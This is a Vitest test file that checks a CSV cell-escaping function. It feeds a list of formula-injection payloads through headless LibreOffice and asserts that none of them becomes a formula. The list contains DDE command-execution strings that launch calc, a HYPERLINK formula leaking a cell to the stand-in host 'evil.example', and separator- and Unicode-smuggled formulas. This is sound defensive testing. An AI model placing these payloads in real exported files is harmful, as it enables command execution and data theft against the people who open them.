import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { makeDirectory } from '#server/testing/test-app.ts';
import { csvCell } from '#server/http/csv-cell.ts';

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0);

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/"&A1,"нажми")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\uFEFF=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  "=cmd|'/C calc'!A0",
  "|cmd'/C calc'",
  "%=cmd|'/C calc'!A0",
  '"=1+1',
  '";=1+1;"',
  'a;=1+1',
  'a\n=1+1',
  'a\t=1+1',
  '",=1+1,"',
  '=DDE("cmd";"/C calc";"x")',
  '+7 916 123-12-34',
];

// LibreOffice starts slowly, and not everybody has it.
it.skipIf(office === undefined).each([
  ['commas', '44,34,76,1,,0,false,true,false'],
  ['semicolons, as where numbers have a comma', '59,34,76,1,,0,false,true,false'],
  ['tabs', '9,34,76,1,,0,false,true,false'],
])(
  'no cell is a formula where a spreadsheet cuts at %s',
  (_name, filter) => {
    const directory = makeDirectory();
    const rows = formulas.map((text) => [csvCell('2026-11-21'), csvCell(text), csvCell('после')].join(','));
    writeFileSync(join(directory, 'journal.csv'), `\uFEFF${rows.join('\r\n')}\r\n=2+2\r\n`);
    const profile = `-env:UserInstallation=file://${directory}/profile`;
    const how = ['--headless', '--convert-to', 'fods', `--infilter=CSV:${filter}`, '--outdir', directory];
    execFileSync(office ?? '', [profile, ...how, join(directory, 'journal.csv')], {
      stdio: 'ignore',
      timeout: 100_000,
    });
    const sheet = readFileSync(join(directory, 'journal.fods'), 'utf8');
    expect(sheet).toContain('после');
    // The last line is nobody's cell: it shows that a formula would be found.
    expect(sheet.match(/table:formula="[^"]*"/g)).toEqual(['table:formula="of:=2+2"']);
  },
  120_000,
);
